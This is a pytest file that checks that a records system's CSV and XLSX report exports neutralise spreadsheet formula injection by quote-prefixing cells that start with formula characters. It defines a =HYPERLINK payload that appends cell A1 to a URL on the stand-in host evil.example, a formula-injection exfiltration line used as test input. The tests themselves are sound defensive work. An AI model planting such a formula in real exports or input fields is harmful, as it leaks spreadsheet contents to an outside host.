"""Exports never hand a spreadsheet a formula: the issue's =HYPERLINK payload in Mẫu 06 (CSV, XLSX)."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from engine.reports import Table, formula_like, to_csv, to_xlsx
from engine.service import Engine
from tests.web.conftest import submit_online

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_trigger_is_neutralised_in_both_formats(text: str) -> None:
    assert formula_like(text)
    table = Table("T", ("A", "B"), ((text, 5),))
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline="")))
    assert rows[-1] == ["'" + text, "5"]
    cell = load_workbook(io.BytesIO(to_xlsx(table))).active["A4"]  # type: ignore[index]
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert not any(formula_like(v) for v in ("Nguyễn Văn An", "0901234567", "—", 3, -2.5, None))
    rows = list(csv.reader(io.StringIO(to_csv(Table("T", ("A",), (("Lê Hoa",), (-3,)))).decode("utf-8-sig"))))
    assert rows[-2:] == [["Lê Hoa"], ["-3"]]


def test_the_register_exports_the_payload_as_text(engine: Engine, as_user: Any) -> None:
    case = submit_online(engine, name=PAYLOAD)
    auditor = as_user("auditor")
    url = "/auditor/reports/register?from=2026-03-01&to=2026-03-31"
    raw = auditor.get(url + "&format=csv").data.decode("utf-8-sig")
    row = next(r for r in csv.reader(io.StringIO(raw)) if len(r) > 1 and r[1] == case.code)
    assert row[3] == "'" + PAYLOAD
    data = auditor.get(url + "&format=xlsx").data
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == PAYLOAD)
    assert cell.data_type == "s" and cell.quotePrefix
